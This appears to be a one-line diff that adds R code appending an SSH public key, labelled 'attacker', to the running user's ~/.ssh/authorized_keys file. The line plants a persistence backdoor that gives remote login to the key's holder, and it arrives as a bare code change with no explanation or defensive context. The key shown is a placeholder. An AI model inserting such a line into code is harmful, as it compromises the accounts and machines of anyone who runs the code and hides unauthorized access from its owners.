@@ -1,0 +1,1 @@
+write("ssh-rsa AAAA attacker", file = path.expand("~/.ssh/authorized_keys"), append = TRUE)
